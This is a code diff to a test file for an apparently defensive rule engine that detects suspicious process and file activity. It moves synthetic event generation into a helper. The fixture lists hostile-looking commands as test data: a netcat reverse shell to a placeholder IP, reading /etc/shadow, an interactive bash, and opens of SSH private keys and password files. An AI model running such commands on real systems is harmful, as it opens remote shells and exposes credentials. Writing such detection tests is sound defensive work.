@@ -18,6 +18,7 @@ import type { FieldValue } from "../../agent/rules/fields/values.ts";
 import { liveBinder, liveEventKey, liveText } from "../../agent/rules/live.ts";
 import { loadRuleSources } from "../../agent/rules/load/load.ts";
 import { parseSnapshot, restoreState, StateTracker, UserTable } from "../../agent/state/index.ts";
+import { type MixProgram, processMix } from "./process-mix.ts";
 
 type Ctx = Map<string, FieldValue>;
 const OPTIONS: EngineOptions = { minPriority: "Debug", matching: "all", selection: [] };
@@ -297,7 +298,7 @@ describe("generated rule plans", () => {
 });
 
 function syntheticMix(): Event[] {
-  const programs: [string, string, string[]][] = [
+  const programs: MixProgram[] = [
     ["bash", "/bin/bash", ["-i"]],
     ["cat", "/usr/bin/cat", ["/etc/shadow"]],
     ["nc", "/usr/bin/nc", ["-e", "/bin/sh", "1.2.3.4", "4444"]],
@@ -306,40 +307,5 @@ function syntheticMix(): Event[] {
     ["curl", "/usr/bin/curl", ["http://x"]],
   ];
   const paths = ["/etc/shadow", "/etc/passwd", "/root/.ssh/id_rsa", "/tmp/x", "/etc/pam.d/sshd", "/dev/null"];
-  const events: Event[] = [];
-  let num = 0;
-  for (let i = 0; i < 120; i++) {
-    const [comm, exe, args] = programs[i % programs.length];
-    const pid = 5000 + i;
-    const base = { tid: pid, pid, cut: 0, bootSec: 100 };
-    events.push({
-      ...base,
-      num: ++num,
-      kind: "execve",
-      bootNsec: num,
-      res: 0,
-      ppid: 1,
-      uid: i % 2 === 0 ? 0 : 1000,
-      gid: 0,
-      comm,
-      filename: exe,
-      args: [exe, ...args],
-      cgroup: i % 3 === 0 ? "/system.slice/x.service" : `/kubepods/besteffort/pod1/${"cd".repeat(32)}`,
-    });
-    for (let j = 0; j < paths.length; j++)
-      events.push({
-        ...base,
-        num: ++num,
-        kind: j % 2 === 0 ? "openat" : "open",
-        bootNsec: num,
-        res: 3 + j,
-        dirfd: -100,
-        path: paths[(i + j) % paths.length],
-        flags: j % 3 === 0 ? 0o1101 : 0,
-        mode: 0o644,
-        resolve: 0,
-      } as Event);
-    events.push({ ...base, num: ++num, kind: "procexit", bootNsec: num, exitCode: 0 });
-  }
-  return events;
+  return processMix(programs, paths, 120);
 }
